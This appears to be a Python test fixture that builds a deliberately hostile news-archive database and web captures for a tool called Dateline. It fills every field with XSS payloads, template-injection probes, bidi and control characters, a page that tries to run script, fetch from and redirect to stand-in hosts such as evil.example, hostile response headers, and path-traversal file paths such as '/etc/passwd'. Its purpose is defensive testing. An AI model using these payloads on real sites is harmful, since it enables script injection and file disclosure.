"""An archive in which every text that an outlet or a page can choose tries to act in the reader's browser."""

from __future__ import annotations

import json
import sqlite3
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from archive import coverage, search
from archive.schema import open_archive
from archive.warc_writer import CaptureWriter

# What each kind of text is shown in: an element, an attribute in either quote, a script, a style, a comment, CDATA, a
# template, a terminal, a line whose direction is turned.
MARK = "window.__xss=1"
TEXT = (
    f'<script>{MARK};alert(1)</script>"><img src=x onerror="{MARK}">\'><svg onload=\'{MARK}\'><a xlink:href="javascript:{MARK}">'
    f'</svg><math href="javascript:{MARK}">x</math>]]></title></textarea></style></script><!-- {{{{7*7}}}} {{% raw %}} ${{7*7}} '
    "&lt;b&gt; \x01\x08\x0b\x1b[31m\x7f\x85\ufffe \u202eesrever\u202c \u2028"
)
SCHEME = f"javascript:{MARK}//"
PAGE_ADDRESS = f'http://evil.example/"><script>{MARK}</script>'
LONG = "長A" * 50_000  # a title of 100,000 characters without a place to break
WORD = "needle"  # all of it is found by this

PLAIN, EDITED, ENDLESS, NAMELESS, TONGUES = (2020010100000000 + number for number in range(1, 6))
REPORTS = (PLAIN, EDITED, ENDLESS, NAMELESS, TONGUES)
FIRST = 1_577_836_800_000_000  # the first capture's id: 2020-01-01T00:00:00Z in microseconds
DAY = 86_400_000_000  # in microseconds
HTML, VECTOR, SCRIPT, GONE, ELSEWHERE, ABSOLUTE = (FIRST + number for number in range(6))


@dataclass(frozen=True)
class Hostile:
    archive: Path
    captures: Path


def page(port: int) -> bytes:
    """A page that does what it can to run, to ask and to lead away; each way names a host of its own. A connection to
    `port` on this machine is one that no policy forbids: the early one of <link rel=preconnect>."""
    return f"""<!doctype html><html><head><base href="http://base.example/" target="_top">
<meta http-equiv="refresh" content="0;url=http://refresh.example/">
<meta http-equiv="set-cookie" content="evil=1"><title>EVIDENCE</title>
<link rel=preconnect href="http://127.0.0.1:{port}"><LINK Rel="next PreConnect" HREF="http://127.0.0.1:{port}/2">
<link rel="&#112;reconnect" href="http://127.0.0.1:{port}/3"><link rel="dns-prefetch" href="http://dns.example/">
<link rel="stylesheet" href="http://style.example/a.css"><link rel="icon" href="http://icon.example/i.png">
<link rel="prefetch" href="http://prefetch.example/"><link rel="preload" as="image" href="http://preload.example/i.png">
<link rel="modulepreload" href="http://module.example/m.js"><link rel="manifest" href="http://manifest.example/m.json">
<link rel="prerender" href="http://prerender.example/">
<style>@import url(http://import.example/i.css); body {{ background: url(http://background.example/b.png) }}
@font-face {{ font-family: f; src: url(http://font.example/f.woff) }} h1 {{ font-family: f; cursor: url(http://cursor.example/), auto }}</style>
<script>{MARK}; top.__xss = 1; document.title = "SCRIPT RAN"; fetch("http://fetch.example/"); top.location = "http://top.example/"</script>
<script src="http://script.example/s.js"></script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://speculation.example/"]}}]}}</script>
</head><body onload="top.__xss = 1; alert(1)" background="http://old.example/b.png"><h1>EVIDENCE as captured</h1>
<img src="http://image.example/i.png" onerror="top.__xss = 1"><img srcset="http://srcset.example/i.png 2x" src="x">
<picture><source srcset="http://source.example/i.png"><img src="y"></picture>
<video src="http://video.example/v.mp4" poster="http://poster.example/p.png" autoplay></video>
<audio src="http://audio.example/a.mp3" autoplay></audio>
<iframe src="http://frame.example/"></iframe><iframe srcdoc="<script>top.__xss = 1</script>"></iframe>
<object data="http://object.example/"></object><embed src="http://embed.example/">
<form id="f" action="http://form.example/" method="post"><input name="a" autofocus onfocus="top.__xss = 1"><button>send</button></form>
<script>document.getElementById("f").submit()</script>
<a id="scheme" href="javascript:top.__xss = 1" target="_top">scheme</a><a href="http://link.example/" ping="http://ping.example/">link</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>top.__xss = 1</script><image href="http://vector.example/i.png"/>
<use href="http://use.example/u.svg#a"/><animate onbegin="top.__xss = 1" attributeName="x" dur="1s"/></svg>
<div><template shadowrootmode="open"><img src="http://shadow.example/i.png" onerror="top.__xss = 1"></template></div>
<details open ontoggle="top.__xss = 1"><summary>s</summary></details><marquee onstart="top.__xss = 1">m</marquee>
<math><annotation-xml encoding="text/html"><iframe src="http://math.example/"></iframe></annotation-xml></math>
</body></html>""".encode()


VECTOR_IMAGE = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
    b'<image href="http://svg.example/i.png"/><text y="20">EVIDENCE</text></svg>'
)
# What the outlet's server said with the page, and ours must not repeat.
HEADERS = [
    ("Set-Cookie", "evil=1; Path=/"),
    ("Refresh", "0; url=http://header-refresh.example/"),
    ("Link", "<http://header-link.example/>; rel=preload; as=style"),
    ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
    ("Access-Control-Allow-Origin", "*"),
    ("Clear-Site-Data", '"*"'),
    ("Report-To", '{"endpoints": [{"url": "http://report.example/"}]}'),
    ("NEL", '{"report_to": "x"}'),
    ("X-Content-Type-Options", "sniff"),
]


def make_hostile_archive(folder: Path, port: int) -> Hostile:
    """archive.db and captures/ in the folder, both made by Dateline's own writers."""
    captures = folder / "captures"
    captures.mkdir(parents=True)
    connection = open_archive(folder / "archive.db")
    connection.execute("begin")
    _insert(connection, "outlets", id="evil", title_en='<b onclick=alert(1)>\'"', title_local=TEXT, country=TEXT, languages="zh", kind="secondary",
            control=TEXT, owner=TEXT, timezone="Asia/Shanghai", aliases=TEXT,
            domains=json.dumps([{"host": TEXT, "since": TEXT, "until": TEXT, "into": TEXT}]))  # fmt: skip
    _insert(connection, "crawls", id="one", outlet="evil", started_at="2020-01-01T00:00:00Z", finished_at="2020-01-01T01:00:00Z",
            finish_reason=TEXT, origin="live", requests=6, reports=5, failed=1, quarantined=1)  # fmt: skip
    _captures(connection, captures, port)
    _report(connection, PLAIN, SCHEME, title=f"{WORD} {TEXT}", bodies=[f"{WORD} {TEXT}\n\n{TEXT}"])
    _report(connection, EDITED, PAGE_ADDRESS, title=f"{WORD} {TEXT}", state="gone",
            bodies=[f"{WORD} first {TEXT} <script>{MARK}</script>\n\n{TEXT}", f"{WORD} second {TEXT[::-1]}\n\n{TEXT} <img src=x onerror={MARK}>"])  # fmt: skip
    _report(connection, ENDLESS, "http://evil.example/long", title=LONG, bodies=[f"{WORD} {LONG}"], state="suspected")
    _report(connection, NAMELESS, "http://evil.example/none", title="", bodies=[f"{WORD} \u202e\x01"], published="")
    _report(connection, TONGUES, "data:text/html,<script>alert(1)</script>", title=f"{WORD} {TEXT}", bodies=[WORD],
            language=f'zh"><script>{MARK}</script>')  # fmt: skip
    # A report is gone at a second look, days later; the other was looked at once.
    for capture, report in ((FIRST + DAY, EDITED), (FIRST + 6 * DAY, EDITED), (FIRST + 7 * DAY, ENDLESS)):
        _capture(connection, capture, outcome="missing", status=404, reason=TEXT, warc=TEXT, report=report)
    for capture, report in (
        (HTML, PLAIN),
        (VECTOR, EDITED),
        (GONE, EDITED),
        (SCRIPT, ENDLESS),
        (ELSEWHERE, NAMELESS),
        (ABSOLUTE, TONGUES),
    ):
        connection.execute("update captures set report = ? where id = ?", [report, capture])
    _insert(connection, "quarantine", capture=GONE, outlet="evil", url=SCHEME, at="2020-01-01T00:00:00Z", reason=TEXT)
    _insert(connection, "checks", url=SCHEME, outlet="evil", address=SCHEME, kind="report", title=TEXT, listed_at=TEXT,
            last_capture=GONE, last_at="2020-01-01T00:00:00Z", last_outcome="failed", etag=TEXT)  # fmt: skip
    _watching(connection)
    _linked(connection)
    search.add_to_index(connection, list(REPORTS))
    connection.execute("commit")
    connection.close()
    return Hostile(folder / "archive.db", captures)


def _watching(connection: sqlite3.Connection) -> None:
    """What scheduled crawls add: of takedowns, edits, alarms and runs, as far as they hold anybody's words."""
    at = "2020-01-02T00:00:00Z"
    for capture, report, state in ((FIRST + DAY, EDITED, "gone"), (FIRST + 7 * DAY, ENDLESS, "suspected")):
        gone: dict[str, str | float] = {"gone_at": at, "gone_capture": capture} if state == "gone" else {}
        _insert(connection, "takedowns", id=capture, report=report, outlet="evil", state=state, cause=TEXT, suspected_at=at,
                last_missing_at=at, looks=2, last_good=HTML, **gone)  # fmt: skip
    for number, report in enumerate((PLAIN, EDITED, ENDLESS)):
        _insert(connection, "replacements", version=EDITED * 10 + 2, place=number, report=report, outlet="evil", seen_at=at,
                was=TEXT, became=f"{TEXT} {WORD}")  # fmt: skip
    connection.execute("update versions set kinds = ? where number = 2", [f"figure changed; {TEXT}"])
    for outlet in ("evil", None):
        _insert(connection, "alarms", kind=TEXT, subject=outlet or "disk", message=TEXT, state=TEXT, raised_at=at, seen_at=at,
                acknowledged_at=at, note=TEXT, **({"outlet": outlet} if outlet else {}))  # fmt: skip
    _insert(connection, "runs", id=TEXT, started_at=at, finished_at=at, pid=1, ended=TEXT)
    connection.execute("update captures set reason = ? where outcome = 'failed'", [f"{SCHEME}: {TEXT}"])
    coverage.count_all(connection)


def _linked(connection: sqlite3.Connection) -> None:
    """What is read out of the texts and how it hangs together: each text in it hostile, places that overlap and lead
    beyond the text, numbers without end, and evidence of every shape."""
    shapes = [
        json.dumps({"hyperlink": address, "shared_text": [[0, 300, 5, 300], [9, 4, -5, 10**9]], "hours": 4.5,
                    "figures": [[1, 1], [2, 3]], "names": [[TEXT, TEXT, TEXT]]})
        for address in (SCHEME, PAGE_ADDRESS)
    ]  # fmt: skip
    shapes += [
        json.dumps({"hyperlink": {}, "shared_text": [[TEXT]], "figures": TEXT, "names": [1], "hours": TEXT}),
        TEXT,
    ]
    for report, version in ((PLAIN, 1), (EDITED, 1), (EDITED, 2), (ENDLESS, 1), (NAMELESS, 1), (TONGUES, 1)):
        _stated(connection, report, report * 10 + version, int(report != EDITED or version == 2))
    connection.execute("delete from unread where report <> ?", [NAMELESS])
    connection.execute("delete from statements where report = ?", [NAMELESS])
    for count, (report, other) in enumerate(((PLAIN, EDITED), (EDITED, ENDLESS), (ENDLESS, PLAIN), (TONGUES, PLAIN))):
        pieces = json.dumps([TEXT, LONG[:400]]) if count else json.dumps({TEXT: TEXT})
        version = report * 10 + (2 if report == EDITED else 1)
        _insert(connection, "reprints", report=report, original=other, similarity=0.9, contained=1e308, lag_minutes=-5, same_outlet=1,
                altered=json.dumps([[TEXT, TEXT], [TEXT], TEXT]), dropped=pieces, added=pieces)  # fmt: skip
        _insert(connection, "twins", chinese=report, english=other, score=0.5, mutual=1, evidence=shapes[count],
                only_chinese='[1, "x", [2]]', only_english=TEXT)  # fmt: skip
        for mention in (1, 2, 3, 4):
            found: dict[str, str | float] = {"cited": other} if mention == 1 else {}
            _insert(connection, "citations", version=version, mention=mention, report=report, outlet=TEXT, tier=TEXT, score=0.5,
                    evidence=shapes[count], reason=TEXT, target=SCHEME, from_day=TEXT, to_day=TEXT, **found)  # fmt: skip
        _insert(connection, "contradictions", kind=TEXT, version=version, figure=1, report=report, other_version=other * 10 + 1,
                other_figure=2, other_report=other, explanation=TEXT)  # fmt: skip
        _insert(connection, "names", key=TEXT, report=report, kind=TEXT, words=TEXT)


def _stated(connection: sqlite3.Connection, report: int, version: int, latest: int) -> None:
    for number, (place, start, stop) in enumerate(
        (("title", 0, 30), ("body", 0, 400), ("body", 5, 20), ("body", 12, 10**12)), 1
    ):
        where: dict[str, str | float] = {
            "version": version,
            "number": number,
            "report": report,
            "place": place,
            "start": start,
            "stop": stop,
            "latest": latest,
        }
        sentence: dict[str, str | float] = {"sentence_start": 0, "sentence_stop": stop}
        _insert(connection, "attributions", **where, source=TEXT, kind=TEXT, source_key=TEXT, cue=TEXT, cue_start=0, cue_stop=9,
                quoted=1, loaded=1, via=number % 4 + 1, **sentence)  # fmt: skip
        _insert(connection, "figures", **where, text=TEXT, value=(1e308, 1e300, 0.1, -3)[number - 1], value_max=1e-300, modifier=TEXT,
                meaning=TEXT, unit=TEXT, measure=TEXT, noun=TEXT, noun_key=TEXT, act=TEXT, act_text=TEXT, period=TEXT,
                period_start=TEXT, period_stop="2012-99-99", attribution=number, stated_by=TEXT, series=TEXT, **sentence)  # fmt: skip
        _insert(connection, "quotes", **where, words=TEXT, kind=TEXT, attribution=number)
        _insert(connection, "mentions", **where, words=TEXT, outlet=TEXT, kind=TEXT, href=(SCHEME, PAGE_ADDRESS)[number % 2],
                href_outlet=TEXT, from_day=TEXT, to_day=TEXT, attribution=number, **sentence)  # fmt: skip
    _insert(connection, "statements", version=version, report=report, grammar=1)


def _captures(connection: sqlite3.Connection, folder: Path, port: int) -> None:
    writer = CaptureWriter(folder)
    writer.begin("one", "evil", {})
    bodies = (
        (HTML, page(port), "text/html"),
        (VECTOR, VECTOR_IMAGE, "image/svg+xml"),
        (SCRIPT, b"alert(1)", "text/javascript"),
    )
    for number, body, content_type in bodies:
        written = writer.response(
            "one", "evil", f"http://evil.example/{number}", ("GET", []),
            (200, [("Content-Type", content_type), *HEADERS], body), at=_time(number),
        )  # fmt: skip
        assert written.id == number
        _capture(connection, number, warc=written.warc, offset=written.offset, length=written.length,
                 payload_sha256=written.payload_sha256, payload_length=len(body), content_type=content_type)  # fmt: skip
    writer.close()
    # Rows that an archive from elsewhere could hold.
    _capture(
        connection,
        GONE,
        outcome="failed",
        warc="no-such-file.warc.gz",
        content_type=TEXT,
        redirect_to=SCHEME,
        reason=TEXT,
        url=SCHEME,
    )
    _capture(connection, ELSEWHERE, warc="../archive.db", content_type="text/html")
    _capture(connection, ABSOLUTE, warc="/etc/passwd", content_type="text/html")


def _time(number: int) -> datetime:
    return datetime.fromtimestamp(number / 1e6, UTC)


def _capture(connection: sqlite3.Connection, number: int, **values: str | int) -> None:
    usual: dict[str, str | int] = {
        "id": number, "crawl": "one", "outlet": "evil", "url": PAGE_ADDRESS, "canonical": PAGE_ADDRESS, "status": 200,
        "at": f"{_time(number):%Y-%m-%dT%H:%M:%SZ}", "payload_length": 9, "offset": number - FIRST, "length": 9,
        "charset": TEXT, "etag": TEXT, "last_modified": TEXT, "origin": "live", "outcome": "report",
    }  # fmt: skip
    _insert(connection, "captures", **(usual | values))


def _report(
    connection: sqlite3.Connection,
    number: int,
    address: str,
    title: str,
    bodies: list[str],
    state: str = "live",
    language: str = "zh-Hans",
    published: str = "2020-01-01T00:00:00Z",
) -> None:
    _insert(connection, "id_registry", id=number, url=address)
    dated = {"published_at": published, "published_precision": "minute"} if published else {}
    _insert(connection, "reports", id=number, url=address, outlet="evil", title=title, excerpt=TEXT, language=language,
            section=TEXT, byline=TEXT, editor=TEXT, source_label=TEXT, source_url=SCHEME, dateline_agency=TEXT,
            dateline_place=TEXT, dateline_date=TEXT, keywords=TEXT, published_printed=TEXT, zone_basis=TEXT,
            first_seen="2020-01-01T00:00:00Z", last_checked="2020-01-02T00:00:00Z", state=state, versions=len(bodies),
            pages=1, capture=HTML, origin="live", **dated)  # fmt: skip
    for count, body in enumerate(bodies, 1):
        _insert(connection, "versions", id=number * 10 + count, report=number, number=count, title=title, body=body,
                captions=f"{WORD} {TEXT}", text_digest="digest", layout=TEXT, capture=HTML + count - 1,
                seen_at="2020-01-01T00:00:00Z", added=9, removed=9, removed_text=TEXT if count > 1 else "")  # fmt: skip


def _insert(connection: sqlite3.Connection, table: str, **values: str | float) -> None:
    connection.execute(
        f"insert into {table} ({', '.join(values)}) values ({', '.join('?' * len(values))})", list(values.values())
    )
